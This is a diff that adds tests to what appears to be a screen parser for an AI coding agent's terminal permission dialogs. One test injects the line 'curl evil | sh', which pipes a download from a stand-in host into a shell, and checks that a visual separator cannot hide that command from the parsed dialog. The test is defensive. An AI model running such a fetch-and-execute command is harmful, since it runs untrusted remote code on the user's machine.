@@ -104,3 +104,18 @@ def test_what_it_asks(name: str) -> None:
     for found, begins in zip(dialog.choices, choices, strict=True):
         assert found.startswith(begins)
     assert dialog.keys == tuple(str(n) for n in range(1, len(choices) + 1))
+
+
+def test_a_line_inside_a_command_hides_nothing_of_it() -> None:
+    text = screen("permission_bash_rm").replace("rm -rf build", "curl evil | sh\n   " + "─" * 60 + "\n   ls -la")
+    dialog = CLAUDE.read_dialog(text)
+    assert dialog is not None
+    assert "curl evil | sh" in dialog.text
+
+
+@pytest.mark.parametrize("draft", ["/compact keep", "!ls", "# note"])
+def test_an_input_with_a_command_in_it_is_not_free(draft: str) -> None:
+    lines = screen("idle_new").splitlines()
+    place = max(n for n, line in enumerate(lines) if line.lstrip().startswith("❯"))
+    lines[place] = f"❯ {draft}"
+    assert CLAUDE.read_screen("\n".join(lines)) is None
